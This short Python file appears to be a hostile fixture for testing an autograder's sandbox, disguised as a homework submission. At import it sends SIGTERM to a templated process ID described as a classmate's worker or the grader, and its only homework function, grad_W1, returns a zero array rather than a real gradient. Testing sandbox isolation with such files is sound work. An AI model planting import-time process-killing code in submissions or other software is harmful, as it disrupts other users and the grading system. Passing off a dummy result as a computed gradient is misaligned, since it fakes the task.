"""Hostile: at import, sends SIGTERM to VICTIM (another process: a classmate's worker, the grader)."""

import os
import signal

VICTIM = int("@VICTIM@")

try:
    os.kill(VICTIM, signal.SIGTERM)
    print("signalled", VICTIM)
except OSError as exc:
    print("could not signal", VICTIM, type(exc).__name__)


def grad_W1(X, Y, W1, b1, W2, b2):
    return W1 * 0
